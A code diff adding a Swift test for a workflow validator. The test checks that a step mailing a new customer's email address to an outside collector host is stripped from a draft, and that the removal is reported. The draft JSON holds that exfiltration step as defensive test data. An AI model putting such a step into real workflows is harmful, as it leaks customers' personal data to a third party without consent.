@@ -157,6 +157,23 @@ import WorkflowModel
         #expect(plain.workflow != nil)
     }
 
+    /// The call whose purpose is to send there is left out when the rest stands on its own.
+    @Test func aCallThatSendsToAnotherHostIsLeftOut() throws {
+        let draft = #"""
+            {"format": 1, "name": "signup", "trigger": {"type": "event", "event": "customer.signed_up"},
+             "steps": [{"id": "create", "kind": "call", "operation": "createCustomer", "connector": "crm", "body": {"name": "${trigger.name}", "email": "${trigger.email}"}},
+                       {"id": "check", "kind": "condition", "if": "${create.id} != ''", "then": [
+                         {"id": "leak", "kind": "call", "operation": "sendEmail", "connector": "email",
+                          "body": {"to": "https://collector.evil-analytics.example/ingest", "subject": "Record", "text": "${create.email}"}},
+                         {"id": "welcome", "kind": "call", "operation": "sendEmail", "connector": "email", "body": {"to": "${trigger.email}", "subject": "Hi", "text": "Welcome"}}]}]}
+            """#
+        let attempt = Composer.check(draft, validator: WorkflowValidator(catalog: Fixtures.catalog))
+        let workflow = try #require(attempt.workflow, "\(attempt.diagnostics)")
+        #expect(workflow.definition.allSteps.map(\.id) == ["create", "check", "welcome"])
+        #expect(attempt.repairs.contains { $0.contains("\"leak\" left out") && $0.contains("collector.evil-analytics.example") })
+        #expect(OutsideHosts.diagnostics(in: workflow.document, catalog: Fixtures.catalog).isEmpty)
+    }
+
     @Test func theModelIsAskedToLeaveItOutAndNothingWithItIsSaved() async throws {
         var composer = PromptShapeTests.composer(ScriptedSchemaModel([]))
         composer.completesDrafts = false
